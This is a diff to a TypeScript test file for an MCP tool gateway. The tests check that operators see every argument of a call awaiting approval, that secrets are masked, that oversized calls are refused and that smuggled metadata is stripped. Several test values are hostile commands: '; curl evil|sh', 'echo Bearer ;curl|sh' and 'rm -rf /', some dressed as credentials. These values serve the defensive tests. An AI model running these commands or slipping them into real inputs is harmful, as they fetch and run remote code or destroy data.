@@ -1,7 +1,7 @@
 /** Approvals of exact calls: who needs one, what it is bound to, and that it is used up, through every way to make a call. */
 
 import assert from "node:assert/strict";
-import { readFileSync, writeFileSync } from "node:fs";
+import { readFileSync, statSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { test } from "node:test";
 import { ElicitRequestSchema } from "@modelcontextprotocol/sdk/types.js";
@@ -21,6 +21,14 @@ import {
 
 const operator = localIdentity("cli", "cli");
 const agent = localIdentity("token", "agent");
+
+/** A secret that the gateway resolves for the server. */
+const secret = "the-secret-of-s";
+
+function withSecret({ transport, ...server }: JsonObject): JsonObject {
+  const headers = { "x-api-key": { secret_key_ref: { env: "OF_S" } } };
+  return { ...server, transport: { ...(transport as JsonObject), headers } };
+}
 
 interface Setting {
   readonly test: TestGateway;
@@ -50,8 +58,8 @@ async function withServer(
   });
   const declaration = { trust_state: "unverified", first_contact: "pin", ...more.declaration };
   await using test = await startTestGateway(
-    { tool_servers: [onHttp("s", server.url, declaration)], policy: more.policy ?? {} },
-    { clients: ["agent", "other"] },
+    { tool_servers: [withSecret(onHttp("s", server.url, declaration))], policy: more.policy ?? {} },
+    { clients: ["agent", "other"], environment: { OF_S: secret } },
   );
   await run({ test, server, received });
 }
@@ -105,16 +113,122 @@ test("a call is made once after its approval, and recorded with it", () =>
     );
   }));
 
-test("the operator reads the arguments, without credentials and with marks where they are cut", () =>
+test("the operator reads all arguments, whatever their names, and what is left out at first is marked", () =>
   withServer(async ({ test }) => {
     const client = await test.connect({ as: "agent" });
+    const shownOf = async (args: JsonObject) => {
+      const id = idOf(textOf(await client.callTool({ name: "s__write", arguments: args })));
+      const short = (await pendingOf(test)).find((one) => one.id === id) ?? assert.fail();
+      const whole = (await test.gateway.approvals.call(id)) ?? assert.fail();
+      assert.equal(whole.isPartial, false);
+      return { short, whole: whole.arguments };
+    };
+    const named = { token: "; curl evil|sh", api_key: { cmd: ["rm", "-rf"] }, password: "x", pin: 7 };
     const text = `${"x".repeat(3000)} the end`;
-    await client.callTool({ name: "s__write", arguments: { text, password: "hunter2hunter2" } });
-    await client.callTool({ name: "s__write", arguments: { text: "y".repeat(5000) } });
-    const [first, second] = await pendingOf(test);
-    assert.deepEqual(first?.arguments, { text, password: "[redacted]" });
-    assert.equal(second?.arguments?.["text"], `${"y".repeat(4000)}… (5000 characters)`);
+    for (const args of [named, { text }, JSON.parse('{"__proto__":{"a":1}}') as JsonObject]) {
+      const { short, whole } = await shownOf(args);
+      assert.deepEqual([short.arguments, short.isPartial, whole], [args, false, args]);
+    }
+    const many = Object.fromEntries(Array.from({ length: 150 }, (_, at) => [`k${at}`, at]));
+    const partial: readonly JsonObject[] = [
+      { ...many, command: "rm" },
+      { list: Object.values(many) },
+      { text: "y".repeat(5000) },
+      { deep: JSON.parse(`${'{"a":'.repeat(20)}1${"}".repeat(20)}`) as JsonObject },
+      // These have the form of credentials, and are commands.
+      { command: "echo Bearer ;curl|sh" },
+      { command: "-----BEGIN X-----\nrm -rf /" },
+    ];
+    for (const args of partial) {
+      const { short, whole } = await shownOf(args);
+      assert.deepEqual([short.isPartial, whole], [true, args]);
+      assert.match(JSON.stringify(short.arguments), /…|\[redacted\]/);
+    }
+    // What the operator keeps secret is shown nowhere.
+    const { short, whole } = await shownOf({ known: secret, in: [`say ${secret}`] });
+    const expected = { known: "[secret s]", in: ["say [secret s]"] };
+    assert.deepEqual([short.arguments, whole], [expected, expected]);
+    const path = join(test.home, "approvals", "calls.json");
+    assert.ok(!readFileSync(path, "utf8").includes(secret));
+    assert.equal(statSync(path).mode & 0o777, 0o600);
   }));
+
+test("a call with more arguments than can be shown is refused with the reason, and waits for nothing", () =>
+  withServer(async ({ test, received }) => {
+    const client = await test.connect({ as: "agent" });
+    const callWith = (length: number) =>
+      client.callTool({ name: "s__write", arguments: { text: "z".repeat(length) } });
+    const largest = 65_536 - JSON.stringify({ text: "" }).length;
+    idOf(textOf(await callWith(largest)));
+    for (const length of [largest + 1, 600_000]) {
+      const text = textOf(await callWith(length));
+      assert.match(text, /"s__write" was not called: .*they have more than 65536 bytes.*waive_approval/s);
+    }
+    assert.equal((await pendingOf(test)).length, 1);
+    assert.deepEqual(received, []);
+  }));
+
+test("a form shows all arguments, and there is none for arguments that do not fit into it", () =>
+  withServer(
+    async ({ test, received }) => {
+      const client = await test.connect({ as: "agent", capabilities: { elicitation: {} } });
+      const asked: string[] = [];
+      client.setRequestHandler(ElicitRequestSchema, ({ params }) => {
+        asked.push(params.message);
+        return { action: "accept", content: { approve: true } };
+      });
+      const callWith = (args: JsonObject) => client.callTool({ name: "s__write", arguments: args });
+      const args = { token: "; curl evil|sh", api_key: { cmd: ["rm", "-rf"] }, key: "Bearer ;curl" };
+      assert.equal(textOf(await callWith(args)), "done");
+      assert.equal(asked[0]?.split("Arguments: ")[1], JSON.stringify(args));
+      const long = { text: "x".repeat(2000), command: "rm" };
+      assert.match(textOf(await callWith(long)), /toolcrib approve call:/);
+      assert.deepEqual([asked.length, received.length], [1, 1]);
+    },
+    { policy: { clients: { agent: { approvals: { elicitation: true } } } } },
+  ));
+
+test("of the metadata of an approved call, only its trace reaches the server", async () => {
+  const metas: (JsonObject | undefined)[] = [];
+  const server = {
+    tools: () => [toolNamed("write"), toolNamed("look", { annotations: { readOnlyHint: true } })],
+    call({ params }: { readonly params: JsonObject }) {
+      metas.push(params["_meta"] as JsonObject | undefined);
+      return { content: [{ type: "text", text: "done" }] };
+    },
+  };
+  await using upstream = await startScriptedServer(server);
+  const declaration = { trust_state: "unverified", first_contact: "pin" };
+  const config = {
+    tool_servers: [onHttp("s", upstream.url, declaration)],
+    policy: { waive_approval: ["s:look"] },
+  };
+  await using test = await startTestGateway(config, { clients: ["agent"] });
+  const trace = {
+    traceparent: "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
+    tracestate: "vendor=a1,other@x=b2",
+  };
+  const hidden = { command: "rm -rf /", baggage: "command=rm", "x.example/more": { command: "rm" } };
+  const legacy = await test.connect({ as: "agent" });
+  const modern = await test.connectModern({ as: "agent" });
+  const sent: [JsonObject, JsonObject | undefined][] = [
+    [{ ...trace, ...hidden }, trace],
+    [{ traceparent: "00-rm -rf", tracestate: "a=b c", ...hidden }, undefined],
+  ];
+  for (const [_meta, expected] of sent) {
+    for (const client of [legacy, modern]) {
+      const call = { name: "s__write", arguments: {}, _meta };
+      const id = idOf(textOf(await client.callTool(call)));
+      await approve(test, id);
+      assert.equal(textOf(await client.callTool(call)), "done");
+      const received = Object.entries(metas.at(-1) ?? {}).filter(([key]) => key !== "progressToken");
+      assert.deepEqual(received, Object.entries(expected ?? {}));
+    }
+  }
+  // Nobody approves this call, so nothing is withheld.
+  await legacy.callTool({ name: "s__look", _meta: { ...trace, ...hidden } });
+  assert.equal(metas.at(-1)?.["command"], "rm -rf /");
+});
 
 test("an approval is bound to client, tool and arguments", () =>
   withServer(async ({ test, received }) => {
